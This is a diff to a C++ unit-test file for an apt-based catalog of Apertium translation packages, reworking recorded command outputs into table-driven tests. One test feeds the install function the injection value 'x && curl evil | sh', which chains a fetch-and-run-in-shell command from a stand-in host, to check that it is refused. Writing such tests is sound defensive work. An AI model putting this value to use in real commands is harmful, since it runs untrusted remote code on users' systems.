@@ -8,14 +8,9 @@ namespace {
 
 // Recorded on Debian 12 with the bookworm lists (shortened).
 const QByteArray searchOutput = R"(apertium-dev - Development tools and library for Apertium
-apertium-af-nl - Transitional dummy package for apertium-afr-nld
-apertium-afr-nld - Apertium translation data for the Afrikaans-Dutch pair
-apertium-all-dev - Metapackage for all tools required for Apertium development
-apertium-anaphora - Anaphora resolution module for Apertium
 apertium-en-es - Transitional dummy package for apertium-eng-spa
 apertium-eng-spa - Apertium translation data for the English-Spanish pair
 apertium-eo-en - Apertium linguistic data to translate between Esperanto and English
-apertium-hin - Apertium single language data for Hindi
 apertium-lex-tools - Constraint-based lexical selection module
 apertium-spa-cat - Apertium translation data for the Spanish-Catalan pair
 apertium-urd-hin - Apertium translation data for the Urdu-Hindi pair
@@ -30,21 +25,13 @@ apertium-spa-cat - Apertium translation data for the Spanish-Catalan pair
 
 // dpkg-query -W -f '${Package}\t${db:Status-Abbrev}\n' 'apertium-*'
 const QByteArray dpkgOutput = "apertium\tii \n"
-                              "apertium-cat-spa\tun \n"
                               "apertium-en-es\tun \n"
                               "apertium-eng-spa\tii \n"
                               "apertium-lex-tools\tii \n"
                               "apertium-spa-cat\tii \n"
-                              "apertium-eo-en\trc \n"
-                              "apertium-spa-eng\tun \n";
+                              "apertium-eo-en\trc \n";
 
-const QByteArray policyOutput = R"(apertium-afr-nld:
-  Installed: (none)
-  Candidate: 0.3.0-3
-  Version table:
-     0.3.0-3 500
-        500 http://deb.debian.org/debian bookworm/main amd64 Packages
-apertium-eo-en:
+const QByteArray policyOutput = R"(apertium-eo-en:
   Installed: (none)
   Candidate: 1.0.2-1
   Version table:
@@ -59,18 +46,12 @@ apertium-urd-hin:
 )";
 
 // Answers from recorded outputs, keyed by program and first argument.
-class RecordedCommands {
-public:
-    QHash<QString, std::optional<QByteArray>> outputs;
-    QList<QStringList> calls;
-
-    AptCatalog::CommandRunner runner() {
-        return [this](const QString& program, const QStringList& arguments) {
-            calls.append(QStringList{program} + arguments);
-            return outputs.value(program + ' ' + arguments.value(0), std::nullopt);
-        };
-    }
-};
+AptCatalog::CommandRunner recorded(const QHash<QString, QByteArray>& outputs) {
+    return [outputs](const QString& program, const QStringList& arguments) {
+        const QString key = program + ' ' + arguments.value(0);
+        return outputs.contains(key) ? std::optional(outputs.value(key)) : std::nullopt;
+    };
+}
 
 QStringList names(const QList<LanguagePackage>& packages) {
     QStringList result;
@@ -81,12 +62,10 @@ QStringList names(const QList<LanguagePackage>& packages) {
 }
 
 TEST(AptCatalogTest, ParsesSearchLines) {
-    const QList<ApertiumPackages::Found> found = AptCatalog::parseSearch(
-        "apertium-eo-en - Esperanto - English data\r\nbroken line\n\napertium-x\n");
-    ASSERT_EQ(found.size(), 2);
-    EXPECT_EQ(found[0],
-              (ApertiumPackages::Found{"apertium-eo-en", "Esperanto - English data", false}));
-    EXPECT_EQ(found[1], (ApertiumPackages::Found{"apertium-x", "", false}));
+    EXPECT_EQ(AptCatalog::parseSearch(
+                  "apertium-eo-en - Esperanto - English data\r\nbroken line\n\napertium-x\n"),
+              (QList<ApertiumPackages::Found>{{"apertium-eo-en", "Esperanto - English data", false},
+                                              {"apertium-x", "", false}}));
 }
 
 TEST(AptCatalogTest, InstalledMeansTheCurrentStateIsInstalled) {
@@ -97,47 +76,34 @@ TEST(AptCatalogTest, InstalledMeansTheCurrentStateIsInstalled) {
     EXPECT_EQ(AptCatalog::parseInstalled("a\thi \nb\tit \nc\tiF \nd\n"), (QSet<QString>{"a", "b"}));
 }
 
+// Empty lists show only what dpkg knows, and no apt at all nothing: both with a note.
 TEST(AptCatalogTest, ListsInstalledAndInstallablePairs) {
-    RecordedCommands commands;
-    commands.outputs["apt-cache search"] = searchOutput;
-    commands.outputs["dpkg-query -W"] = dpkgOutput;
-    commands.outputs["apt-cache policy"] = policyOutput;
-    const PackageCatalog::Listing listing = AptCatalog(commands.runner()).listing();
-
-    // urd-hin has no installable version.
-    EXPECT_EQ(names(listing.packages), (QStringList{"apertium-afr-nld", "apertium-eng-spa*",
-                                                    "apertium-eo-en", "apertium-spa-cat*"}));
-    EXPECT_TRUE(listing.note.isEmpty());
-
-    // Only names that are not installed are asked about.
-    ASSERT_EQ(commands.calls.size(), 3);
-    const QStringList policy = commands.calls.at(2);
-    EXPECT_EQ(policy.mid(0, 2), (QStringList{"apt-cache", "policy"}));
-    EXPECT_FALSE(policy.contains("apertium-eng-spa"));
-    EXPECT_FALSE(policy.contains("apertium-dev"));
-    EXPECT_TRUE(policy.contains("apertium-eo-en"));
-}
-
-TEST(AptCatalogTest, EmptyListsShowInstalledPairsWithANote) {
-    RecordedCommands commands;
-    commands.outputs["apt-cache search"] = searchOutputWithoutLists;
-    commands.outputs["dpkg-query -W"] = dpkgOutput;
-    // Through the asynchronous entry point.
-    AptCatalog catalog(commands.runner());
-    QFuture<PackageCatalog::Listing> future = catalog.packages();
-    future.waitForFinished();
-    ASSERT_EQ(future.resultCount(), 1);
-    const PackageCatalog::Listing listing = future.result();
-
-    EXPECT_EQ(names(listing.packages), (QStringList{"apertium-eng-spa*", "apertium-spa-cat*"}));
-    EXPECT_EQ(listing.note, "not available, or the lists need refreshing");
-}
-
-TEST(AptCatalogTest, MissingToolsGiveAnEmptyListingWithANote) {
-    RecordedCommands commands; // every program fails to start
-    const PackageCatalog::Listing listing = AptCatalog(commands.runner()).listing();
-    EXPECT_TRUE(listing.packages.isEmpty());
-    EXPECT_FALSE(listing.note.isEmpty());
+    const struct {
+        const char* name;
+        QHash<QString, QByteArray> outputs;
+        QStringList packages; // installed ones starred
+        bool note;
+    } cases[] = {
+        // urd-hin has no installable version.
+        {"lists",
+         {{"apt-cache search", searchOutput},
+          {"dpkg-query -W", dpkgOutput},
+          {"apt-cache policy", policyOutput}},
+         {"apertium-eng-spa*", "apertium-eo-en", "apertium-spa-cat*"},
+         false},
+        {"empty_lists",
+         {{"apt-cache search", searchOutputWithoutLists}, {"dpkg-query -W", dpkgOutput}},
+         {"apertium-eng-spa*", "apertium-spa-cat*"},
+         true},
+        {"no_apt", {}, {}, true},
+    };
+    for (const auto& c : cases) {
+        SCOPED_TRACE(c.name);
+        AptCatalog catalog(recorded(c.outputs));
+        const PackageCatalog::Listing listing = catalog.packages().result();
+        EXPECT_EQ(names(listing.packages), c.packages);
+        EXPECT_EQ(listing.note.isEmpty(), !c.note) << listing.note.toStdString();
+    }
 }
 
 // Never an odd name in a command the user is told to run.
@@ -146,11 +112,12 @@ TEST(AptCatalogTest, InstallNamesTheCommandToRun) {
     const PrepareResult result = catalog.install("apertium-eng-spa").result();
     EXPECT_EQ(result.outcome, PrepareResult::Outcome::manual);
     EXPECT_EQ(result.command, "sudo apt install apertium-eng-spa");
-    EXPECT_TRUE(result.message.contains(result.command));
 
-    const PrepareResult odd = catalog.install("x && curl evil | sh").result();
-    EXPECT_EQ(odd.outcome, PrepareResult::Outcome::failed);
-    EXPECT_TRUE(odd.command.isEmpty());
+    for (const char* odd : {"x && curl evil | sh", "-y", "Apertium-eng-spa"}) {
+        const PrepareResult refused = catalog.install(odd).result();
+        EXPECT_EQ(refused.outcome, PrepareResult::Outcome::failed) << odd;
+        EXPECT_TRUE(refused.command.isEmpty()) << odd;
+    }
 }
 
 } // namespace
